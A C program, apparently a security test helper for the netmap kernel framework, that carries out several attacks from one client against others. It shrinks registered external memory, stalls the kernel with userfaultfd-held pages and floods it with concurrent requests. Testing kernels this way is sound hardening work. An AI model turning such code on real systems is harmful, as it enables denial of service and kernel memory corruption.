/* SPDX-License-Identifier: MIT OR Apache-2.0 */
/*
 * attack DEVICE COMMAND ARGUMENT...   What one client can try against all others, one attack a command:
 *
 * shrink KIND         brings external memory along, and takes it away again. KIND is where from: "tmpfs", a file on a file system of
 *                     its own whose name is that of anonymous memory; "punch", a sealed memfd whose pages it frees
 * never HOW PORT      gives the server a pointer to a page that nobody ever provides. HOW is where: "send" and "poll", the middle of
 *                     an indirect frame; "csb", the CSB of a registration; "loop", the CSB of a sync loop that runs
 * many COUNT USER     makes that many requests at once whose body is on such a page, as that user
 * leave COUNT USER    runs as many sync loops whose CSB is on such a page. When it is killed, a process lives on that shares its
 *                     memory, but not its files. Says the number of that one first
 */
#include <errno.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/syscall.h>

#include "port.h"

#define EXTERNAL (4u << 20)

static void
say(const char *line)
{
	printf("%s\n", line);
	fflush(stdout);
}

static void
await_line(void)
{
	char line[64];

	if (fgets(line, sizeof(line), stdin) == NULL)
		exit(0);
}

static void
write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);

	if (fd < 0 || write(fd, text, strlen(text)) < 0)
		err(1, "%s", path);
	close(fd);
}

/* A file called /dev/zero on a tmpfs that this process mounts as nobody in particular: in namespaces of its own. */
static int
false_zero(void)
{
	char users[64], groups[64];
	int fd;

	snprintf(users, sizeof(users), "0 %u 1", getuid());
	snprintf(groups, sizeof(groups), "0 %u 1", getgid());
	if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
		err(77, "unshare");
	write_file("/proc/self/setgroups", "deny");
	write_file("/proc/self/uid_map", users);
	write_file("/proc/self/gid_map", groups);
	if (mount("none", "/dev", "tmpfs", 0, NULL) != 0)
		err(77, "mount");
	fd = open("/dev/zero", O_RDWR | O_CREAT | O_EXCL, 0600);
	if (fd < 0)
		err(1, "/dev/zero");
	return fd;
}

static int
register_external(int fd, const char *name, void *memory, uint64_t size)
{
	struct nmreq_header hdr;
	struct nmreq_register reg;
	struct nmreq_opt_extmem ext;

	memset(&hdr, 0, sizeof(hdr));
	memset(&reg, 0, sizeof(reg));
	memset(&ext, 0, sizeof(ext));
	ext.nro_opt.nro_reqtype = NETMAP_REQ_OPT_EXTMEM;
	ext.nro_usrptr = (uintptr_t)memory;
	ext.nro_info.nr_memsize = size;
	ext.nro_info.nr_if_pool_objtotal = 8;
	ext.nro_info.nr_if_pool_objsize = 1024;
	ext.nro_info.nr_ring_pool_objtotal = 16;
	ext.nro_info.nr_ring_pool_objsize = 8192;
	ext.nro_info.nr_buf_pool_objtotal = 200;
	ext.nro_info.nr_buf_pool_objsize = 2048;
	hdr.nr_version = NETMAP_API;
	hdr.nr_reqtype = NETMAP_REQ_REGISTER;
	strncpy(hdr.nr_name, name, sizeof(hdr.nr_name) - 1);
	hdr.nr_body = (uintptr_t)&reg;
	hdr.nr_options = (uintptr_t)&ext;
	reg.nr_mode = NR_REG_ALL_NIC;
	reg.nr_tx_slots = reg.nr_rx_slots = 16;
	return ioctl(fd, NIOCCTRL, &hdr);
}

static void
shrink(const char *device, const char *kind)
{
	int fd = open(device, O_RDWR);
	int punch = strcmp(kind, "punch") == 0;
	int file = punch ? memfd_create("mine", MFD_ALLOW_SEALING) : false_zero();
	void *memory;

	if (fd < 0 || file < 0 || ftruncate(file, EXTERNAL) != 0)
		err(1, "open, or make the file");
	memory = mmap(NULL, EXTERNAL, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
	if (memory == MAP_FAILED)
		err(1, "mmap");
	if (!punch && unlink("/dev/zero") != 0)
		err(1, "unlink");
	if (register_external(fd, "vale0:shrinks", memory, EXTERNAL) != 0) {
		printf("refused: %s\n", strerrorname_np(errno));
		return;
	}
	say("registered");
	await_line();
	if (ftruncate(file, 0) == 0)
		say("taken away");
	else if (fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, EXTERNAL) == 0)
		say("emptied");
	else
		err(1, "fallocate");
	await_line();
}

static int faults = -1;

/* Says when the server touches a page, and leaves it there. */
static void *
watch(void *arg)
{
	struct uffd_msg message;

	(void)arg;
	while (read(faults, &message, sizeof(message)) == sizeof(message))
		say("stuck");
	return NULL;
}

static void
watch_faults(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	pthread_t watcher;

	faults = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (faults < 0 || ioctl(faults, UFFDIO_API, &api) != 0)
		err(77, "userfaultfd");
	if (pthread_create(&watcher, NULL, watch, NULL) != 0)
		err(1, "pthread_create");
}

/* Two pages; from now on nobody provides the second if it is empty. */
static char *
pages(void)
{
	char *memory = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	if (memory == MAP_FAILED)
		err(1, "mmap");
	memset(memory, 0xff, 8192);
	return memory;
}

static void
take_second_away(char *memory)
{
	struct uffdio_register range = { .mode = UFFDIO_REGISTER_MODE_MISSING };

	range.range.start = (uintptr_t)memory + 4096;
	range.range.len = 4096;
	if (ioctl(faults, UFFDIO_REGISTER, &range) != 0)
		err(77, "userfaultfd");
	if (madvise(memory + 4096, 4096, MADV_DONTNEED) != 0)
		err(1, "madvise");
}

static void
send_indirect(const char *device, const char *name, int by_poll)
{
	struct port p = port_open(device, name, 0);
	char *memory = pages();
	struct netmap_slot *slot = &p.tx->slot[p.tx->head];
	struct pollfd fds = { .fd = p.fd, .events = POLLOUT };

	/* A broadcast, whose addresses are there and whose end is not. */
	slot->len = 60;
	slot->flags = NS_INDIRECT;
	slot->ptr = (uintptr_t)memory + 4096 - 30;
	p.tx->head = p.tx->cur = nm_ring_next(p.tx, p.tx->head);
	take_second_away(memory);
	if (by_poll)
		poll(&fds, 1, -1);
	else
		ioctl(p.fd, NIOCTXSYNC, NULL);
}

static void
csb(int fd, const char *name, int loop)
{
	char *memory = pages();
	struct nmreq_header hdr;
	struct nmreq_register reg;
	struct nmreq_sync_kloop_start start;
	struct nmreq_opt_csb option;

	memset(memory, 0, 8192);
	memset(&hdr, 0, sizeof(hdr));
	memset(&reg, 0, sizeof(reg));
	memset(&start, 0, sizeof(start));
	memset(&option, 0, sizeof(option));
	option.nro_opt.nro_reqtype = NETMAP_REQ_OPT_CSB;
	option.csb_atok = (uintptr_t)memory + 4096;
	option.csb_ktoa = (uintptr_t)memory;
	hdr.nr_version = NETMAP_API;
	hdr.nr_reqtype = NETMAP_REQ_REGISTER;
	strncpy(hdr.nr_name, name, sizeof(hdr.nr_name) - 1);
	hdr.nr_body = (uintptr_t)&reg;
	hdr.nr_options = (uintptr_t)&option;
	reg.nr_mode = NR_REG_ALL_NIC;
	reg.nr_flags = NR_EXCLUSIVE;
	if (!loop)
		take_second_away(memory);
	if (ioctl(fd, NIOCCTRL, &hdr) != 0)
		err(1, "register");
	if (loop)
		take_second_away(memory);
	hdr.nr_reqtype = NETMAP_REQ_SYNC_KLOOP_START;
	hdr.nr_body = (uintptr_t)&start;
	hdr.nr_options = 0;
	start.sleep_us = 100;
	ioctl(fd, NIOCCTRL, &hdr);
}

static void
never(const char *device, const char *how, const char *name)
{
	if (strcmp(how, "csb") == 0 || strcmp(how, "loop") == 0)
		csb(open(device, O_RDWR), name, strcmp(how, "loop") == 0);
	else
		send_indirect(device, name, strcmp(how, "poll") == 0);
}

static char *many_memory;
static int many_files[64];

/* Opens first: another user may not even walk to the file, which is in a namespace of the test's. */
static void
open_many(const char *device, int count, uid_t user)
{
	for (int i = 0; i < count; i++) {
		many_files[i] = open(device, O_RDWR);
		if (many_files[i] < 0)
			err(1, "open");
	}
	if (setuid(user) != 0)
		err(1, "setuid");
}

static void *
one_of_many(void *arg)
{
	struct nmreq_header hdr;

	memset(&hdr, 0, sizeof(hdr));
	hdr.nr_version = NETMAP_API;
	hdr.nr_reqtype = NETMAP_REQ_REGISTER;
	strcpy(hdr.nr_name, "vale0:many");
	hdr.nr_body = (uintptr_t)many_memory + 4096;
	ioctl(*(int *)arg, NIOCCTRL, &hdr);
	return NULL;
}

static void
many(const char *device, int count, uid_t user)
{
	many_memory = pages();
	take_second_away(many_memory);
	open_many(device, count, user);
	for (int i = 0; i < count; i++) {
		pthread_t thread;

		if (pthread_create(&thread, NULL, one_of_many, &many_files[i]) != 0)
			err(1, "pthread_create");
	}
	pause();
}

static void *
one_loop(void *arg)
{
	char name[32];

	snprintf(name, sizeof(name), "vale1:%d_%d", (int)getpid(), *(int *)arg);
	csb(*(int *)arg, name, 1);
	return NULL;
}

/* Keeps the memory, and with it who waits for it, for as long as the longest test. */
static int
stay(void *arg)
{
	(void)arg;
	close_range(0, faults - 1, 0);
	close_range(faults + 1, ~0u, 0);
	alarm(120);
	pause();
	return 0;
}

static void
leave(const char *device, int count, uid_t user)
{
	static char stack[65536];
	int heir = clone(stay, stack + sizeof(stack), CLONE_VM, NULL);

	if (heir < 0)
		err(1, "clone");
	printf("%d\n", heir);
	fflush(stdout);
	open_many(device, count, user);
	for (int i = 0; i < count; i++) {
		pthread_t thread;

		if (pthread_create(&thread, NULL, one_loop, &many_files[i]) != 0)
			err(1, "pthread_create");
	}
	for (;;)
		pause();
}

int
main(int argc, char **argv)
{
	if (argc > 3 && strcmp(argv[2], "shrink") != 0)
		watch_faults();
	if (argc > 3 && strcmp(argv[2], "shrink") == 0)
		shrink(argv[1], argv[3]);
	else if (argc > 4 && strcmp(argv[2], "many") == 0)
		many(argv[1], atoi(argv[3]), atoi(argv[4]));
	else if (argc > 4 && strcmp(argv[2], "leave") == 0)
		leave(argv[1], atoi(argv[3]), atoi(argv[4]));
	else if (argc > 4 && strcmp(argv[2], "never") == 0)
		never(argv[1], argv[3], argv[4]);
	else
		errx(64, "usage: attack DEVICE COMMAND ARGUMENT...");
	return 0;
}
